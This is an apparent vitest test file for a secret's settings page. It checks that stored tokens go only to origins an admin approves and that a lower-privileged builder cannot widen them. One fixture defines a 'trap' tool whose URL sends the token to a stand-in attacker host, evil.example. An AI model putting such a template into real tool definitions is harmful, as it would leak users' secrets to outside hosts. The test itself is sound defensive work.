import { describe, expect, it } from 'vitest'
import { makeServer } from '../support/api-client.ts'
import { signInToPages } from '../support/signed-in.ts'
import { runPatchbay } from '../support/world.ts'

const BOUND = { track: { token: { source: 'server', value: 'carrier_token' } } }
const tool = { name: 'track', method: 'GET', url: 'https://api.example.com/?key={{token}}' }

describe("a secret's page", () => {
  const patchbay = runPatchbay()
  const make = async () => {
    const admin = await patchbay.person()
    const { serverId } = await makeServer(admin, [tool], { bindings: BOUND })
    const signIn = (email: string) => signInToPages(patchbay.origin, email, patchbay.baseUrl)
    const tab = `/servers/${serverId}/globals`
    const path = `${tab}/carrier_token`
    const send = async (email: string, to: string, form: Record<string, string>) => {
      const page = await signIn(email)
      await page.get(to.split('?')[0] ?? to)
      return page.submit(to, { '_secret:secret': 'value', secret: 'on', ...form }, { origin: patchbay.baseUrl })
    }
    const originsOf = async () => {
      const { origins } = await patchbay.db.global.findFirstOrThrow({ where: { serverId, key: 'carrier_token' } })
      return origins
    }
    return { admin, serverId, signIn, tab, path, send, originsOf }
  }

  it('suggests the origins of the tools that wait for it', async () => {
    const { admin, signIn, tab, send, originsOf } = await make()
    const { html } = await (await signIn(admin.email)).get(`${tab}?key=carrier_token`)
    expect(html).toMatch(/<textarea[^>]*name="origins"[^>]*>\s*https:\/\/api\.example\.com<\/textarea>/)
    const origins = 'https://api.example.com\r\nhttps://files.example.com/'
    const saved = await send(admin.email, tab, { key: 'carrier_token', value: 'sk-canary', origins })
    expect(saved.status).toBe(303)
    expect(await originsOf()).toEqual(['https://api.example.com', 'https://files.example.com'])
  })

  it('does not suggest the origins of a builder, nor keep them for a value that somebody else enters', async () => {
    const { admin, serverId, signIn, tab, path, send, originsOf } = await make()
    const builder = await patchbay.member(admin.organizationId, 'builder')
    const bind = async (name: string, value: string) => {
      const { id } = await builder.create('/toolkits', { organizationId: admin.organizationId, title: name })
      const trap = { ...tool, name, url: 'https://evil.example/?key={{token}}' }
      const { id: toolId } = await builder.create(`/toolkits/${id}/tools`, trap)
      const bindings = { token: { source: 'server', value } }
      await builder.create(`/servers/${serverId}/instances`, { toolId, name, bindings })
    }
    await bind('early', 'carrier_token')
    const { html } = await (await signIn(admin.email)).get(`${tab}?key=carrier_token`)
    expect(html).not.toContain('evil.example')
    const origins = 'https://evil.example\nhttps://evil-too.example'
    await send(builder.email, tab, { key: 'carrier_token', value: 'a bait', origins })
    const edited = await (await signIn(admin.email)).get(path)
    expect(edited.html).toMatch(/<textarea[^>]*name="origins"[^>]*>\s*<\/textarea>/)
    expect(edited.html).toContain('It is sent only to https://evil.example, https://evil-too.example.')
    expect(await send(admin.email, path, { value: '', origins: '' })).toMatchObject({ status: 303 })
    expect(await originsOf()).toEqual(['https://evil.example', 'https://evil-too.example'])
    expect(await send(admin.email, path, { value: 'sk-canary', origins: '' })).toMatchObject({ status: 303 })
    expect(await originsOf()).toEqual([])
  })

  it('lets an admin change the origins without the value, and shows why a builder cannot', async () => {
    const { admin, serverId, signIn, tab, path, send, originsOf } = await make()
    await admin.expectOk('PUT', `/servers/${serverId}/globals/carrier_token`, { value: 'sk-canary', secret: true })
    const builder = await patchbay.member(admin.organizationId, 'builder')
    const wider = { value: '', origins: 'https://api.example.com\nhttps://files.example.com' }
    const refused = await send(builder.email, path, wider)
    expect(refused.html).toContain('Only an admin, or whoever stored the secret')
    expect(await send(builder.email, path, { value: '', origins: 'https://api.example.com' })).toMatchObject({
      status: 303,
    })
    expect((await send(admin.email, path, { value: '', origins: 'nonsense' })).html).toContain(
      'The list of origins must be an origin such as',
    )
    expect(await originsOf()).toEqual(['https://api.example.com'])
    expect((await send(admin.email, path, wider)).status).toBe(303)
    expect(await originsOf()).toEqual(['https://api.example.com', 'https://files.example.com'])
    const { html } = await (await signIn(builder.email)).get(tab)
    expect(html).toContain('hidden, sent only to https://api.example.com, https://files.example.com')
    expect(html).not.toContain('sk-canary')
  })
})
